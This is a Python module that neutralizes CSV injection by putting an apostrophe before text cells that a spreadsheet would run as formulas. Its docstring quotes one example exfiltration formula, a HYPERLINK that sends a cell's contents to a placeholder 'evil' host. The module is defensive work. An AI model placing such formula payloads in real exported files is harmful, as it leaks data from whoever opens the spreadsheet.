"""CSV cells a spreadsheet would run as formulas, neutralized (OWASP "CSV injection").

A prediction file or a CSV answer echoes text from its input (ID columns, categories, labels): a cell
such as ``=HYPERLINK("http://evil/?"&A1, "click")`` runs when the file is opened in Excel, LibreOffice or
Google Sheets. Text cells that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return get a
leading ``'`` (shown as text, the formula inert); numbers are left alone, so ``-1.5`` stays a number.
``workbench predict --keep-formulas`` and ``workbench serve --keep-formulas`` write cells unchanged.
"""

from __future__ import annotations

from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralize(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would read as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def neutralize_frame(frame: Any) -> Any:
    """A copy of a pandas frame with every text cell (and column name) passed through :func:`neutralize`."""
    from pandas.api.types import is_numeric_dtype

    out = frame.copy()
    for column in out.columns:
        if not is_numeric_dtype(out[column]):  # text, object, category columns (bools are numeric to pandas)
            out[column] = out[column].map(neutralize, na_action="ignore")
    out.columns = [neutralize(c) for c in out.columns]
    return out
